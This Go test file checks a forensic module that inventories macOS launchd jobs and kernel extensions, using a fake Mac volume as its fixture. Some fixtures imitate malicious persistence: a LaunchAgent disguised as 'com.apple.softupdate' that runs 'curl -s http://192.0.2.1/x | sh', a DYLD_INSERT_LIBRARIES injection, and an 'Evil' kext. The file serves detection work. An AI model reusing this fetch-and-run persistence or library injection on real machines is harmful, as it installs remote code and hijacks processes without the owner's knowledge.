package macos

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/quaestor-engine/quaestor/modules"
	"github.com/quaestor-engine/quaestor/modules/moduletest"
)

// list makes a property list of what is in a dictionary.
func list(body string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict>` + body + "</dict></plist>\n"
}

func entry(key, v string) string { return "<key>" + key + "</key>" + v }
func str(s string) string        { return "<string>" + s + "</string>" }
func strs(all ...string) string {
	b := "<array>"
	for _, s := range all {
		b += str(s)
	}
	return b + "</array>"
}

// mac makes a tree as the volume with the data of a Mac has it.
func mac(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	account := func(name, uid string) string {
		return list(entry("name", strs(name)) + entry("uid", strs(uid)) + entry("gid", strs("20")) + entry("home", strs("/Users/"+name)) + entry("shell", strs("/bin/zsh")))
	}
	for name, text := range map[string]string{
		"private/var/db/dslocal/nodes/Default/users/ann.plist": account("ann", "501"),
		"private/var/db/dslocal/nodes/Default/users/bob.plist": account("bob", "502"),
		"Library/LaunchDaemons/com.example.updater.plist": list(entry("Label", str("com.example.updater")) +
			entry("ProgramArguments", strs("/usr/local/bin/updater", "--every", "day")) + entry("RunAtLoad", "<true/>") + entry("KeepAlive", "<dict>"+entry("SuccessfulExit", "<false/>")+"</dict>") +
			entry("StartInterval", "<integer>3600</integer>") + entry("UserName", str("_www")) +
			entry("EnvironmentVariables", "<dict>"+entry("DYLD_INSERT_LIBRARIES", str("/tmp/x.dylib"))+"</dict>") +
			entry("MachServices", "<dict>"+entry("com.example.updater", "<true/>")+"</dict>")),
		"Library/LaunchDaemons/com.example.off.plist": list(entry("Label", str("com.example.off")) + entry("Program", str("/opt/off")) + entry("Disabled", "<true/>") +
			entry("StartCalendarInterval", "<array><dict>"+entry("Hour", "<integer>3</integer>")+entry("Minute", "<integer>15</integer>")+"</dict><dict>"+entry("Weekday", "<integer>0</integer>")+"</dict></array>")),
		"Library/LaunchAgents/com.example.helper.plist":               list(entry("Label", str("com.example.helper")) + entry("Program", str("/Applications/Helper")) + entry("UserName", str("root"))),
		"Users/ann/Library/LaunchAgents/com.apple.softupdate.plist":   list(entry("Label", str("com.apple.softupdate")) + entry("ProgramArguments", strs("/bin/sh", "-c", "curl -s http://192.0.2.1/x | sh")) + entry("WatchPaths", str("/Users/ann/Downloads"))),
		"Users/bob/Library/LaunchAgents/broken.plist":                 "<?xml version='1.0'?><plist><dict><key>Label</key>",
		"Users/bob/Library/LaunchAgents/empty.plist":                  "<?xml version='1.0'?><plist><array/></plist>",
		"Applications/VPN.app/Contents/Library/LaunchDaemons/v.plist": list(entry("Label", str("vpn")) + entry("BundleProgram", str("Contents/MacOS/vpnd"))),
		"private/var/db/com.apple.xpc.launchd/disabled.plist":         list(entry("com.example.off", "<false/>") + entry("com.example.updater", "<true/>")),
		"private/var/db/com.apple.xpc.launchd/disabled.501.plist":     list(entry("com.apple.softupdate", "<true/>") + entry("com.example.helper", "<true/>")),

		"Library/Extensions/Evil.kext/Contents/Info.plist": list(entry("CFBundleIdentifier", str("com.evil.kext")) + entry("CFBundleName", str("Evil")) + entry("CFBundleShortVersionString", str("1.2.10")) + entry("CFBundleExecutable", str("Evil")) +
			entry("OSBundleLibraries", "<dict>"+entry("com.apple.kpi.libkern", str("1"))+"</dict>")),
		"Library/Extensions/Bare.kext/Contents/Resources/x":                                  "",
		"Library/SystemExtensions/AB-CD/com.example.net.systemextension/Contents/Info.plist": list(entry("CFBundleIdentifier", str("com.example.net")) + entry("CFBundleExecutable", str("../../../tmp/x"))),
	} {
		p := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func TestContract(t *testing.T) {
	for _, m := range Modules() {
		t.Run(m.Schema().Name, func(t *testing.T) { moduletest.Run(t, m, mac(t)) })
	}
}

func check(t *testing.T, m modules.Module, root, columns string, locators []string, want ...string) []string {
	t.Helper()
	got, rec := moduletest.Rows(t, m, root, strings.Fields(columns), locators)
	if !slices.Equal(got, want) {
		t.Errorf("%s\nnot\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	var skips []string
	for _, s := range rec.Skips() {
		skips = append(skips, string(s.Kind)+" "+s.Where)
	}
	return skips
}

func TestLaunchd(t *testing.T) {
	root := mac(t)
	skips := check(t, launchd(), root, "label kind scope user program command run_at_load keep_alive interval disabled disabled_for", nil,
		"com.example.off | daemon | all_users | root | /opt/off | /opt/off | false | false | null | false | []",
		"com.example.updater | daemon | all_users | _www | /usr/local/bin/updater | /usr/local/bin/updater --every day | true | true | 1h | true | []",
		"com.example.helper | agent | all_users | null | /Applications/Helper | /Applications/Helper | false | false | null | false | [501]",
		"com.apple.softupdate | agent | user | ann | /bin/sh | /bin/sh -c curl -s http://192.0.2.1/x | sh | false | false | null | true | [501]",
		"vpn | daemon | all_users | root | /Applications/VPN.app/Contents/MacOS/vpnd | /Applications/VPN.app/Contents/MacOS/vpnd | false | false | null | false | []")
	if want := []string{"io_error /Users/bob/Library/LaunchAgents/broken.plist", "io_error /Users/bob/Library/LaunchAgents/empty.plist"}; !slices.Equal(skips, want) {
		t.Errorf("%q", skips)
	}
	check(t, launchd(), root, "path calendar watch_paths services environment on_mount", []string{"/Library/LaunchDaemons/*"},
		"/Library/LaunchDaemons/com.example.off.plist | [15 3 * * *, * * * * 0] | [] | [] | [] | false",
		"/Library/LaunchDaemons/com.example.updater.plist | [] | [] | [com.example.updater] | [DYLD_INSERT_LIBRARIES=/tmp/x.dylib] | false")
	check(t, launchd(), root, "watch_paths args", []string{"/Users/ann/**"}, "[/Users/ann/Downloads] | [/bin/sh, -c, curl -s http://192.0.2.1/x | sh]")
}

func TestKernelExtensions(t *testing.T) {
	if skips := check(t, kernelExtensions(), mac(t), "path identifier name version kind program apple libraries", nil,
		"/Library/Extensions/Bare.kext | null | null | null | kernel | null | false | []",
		"/Library/Extensions/Evil.kext | com.evil.kext | Evil | 1.2.10 | kernel | /Library/Extensions/Evil.kext/Contents/MacOS/Evil | false | [com.apple.kpi.libkern]",
		"/Library/SystemExtensions/AB-CD/com.example.net.systemextension | com.example.net | null | null | system | null | false | []"); len(skips) != 0 {
		t.Errorf("%q", skips)
	}
}

// A live machine of another system says that it has none of this.
func TestElsewhere(t *testing.T) {
	for _, m := range Modules() {
		rows, rec := moduletest.Rows(t, m, "", []string{"path"}, nil)
		if s := rec.Skips(); len(rows) != 0 || len(s) != 1 || s[0].Kind != modules.SkipUnsupported || s[0].Where != m.Schema().Name {
			t.Errorf("%s: %q, %+v", m.Schema().Name, rows, s)
		}
	}
}
